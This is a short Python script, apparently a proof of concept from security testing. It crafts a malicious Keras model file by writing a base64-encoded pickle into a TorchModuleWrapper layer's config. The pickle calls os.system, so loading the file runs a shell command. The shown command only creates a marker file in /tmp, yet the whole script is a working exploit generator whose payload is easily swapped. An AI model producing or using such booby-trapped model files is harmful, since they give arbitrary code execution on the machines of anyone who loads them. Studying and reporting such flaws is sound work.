import os
os.environ["KERAS_BACKEND"]="torch"
import keras, torch, zipfile, json, base64, io, pickle
from keras.layers import TorchModuleWrapper
m = keras.Sequential([keras.Input((4,)), TorchModuleWrapper(torch.nn.Linear(4,2), output_shape=(None,2))])
m.save("base_tmw.keras")
class R:
    def __reduce__(s): return (os.system, ("touch /tmp/rt18/pwned_keras_tmw",))
evil = base64.b64encode(pickle.dumps(R(), protocol=2)).decode()
zin = zipfile.ZipFile("base_tmw.keras")
zout = zipfile.ZipFile("fn_keras_tmw.keras","w")
for i in zin.infolist():
    d = zin.read(i.filename)
    if i.filename=="config.json":
        c = json.loads(d); s = json.dumps(c)
        def fix(o):
            if isinstance(o,dict):
                if o.get("class_name")=="TorchModuleWrapper": o["config"]["module"]=evil; print("patched", list(o["config"]))
                for v in o.values(): fix(v)
            elif isinstance(o,list):
                for v in o: fix(v)
        fix(c); d = json.dumps(c).encode()
    zout.writestr(i, d)
zout.close()
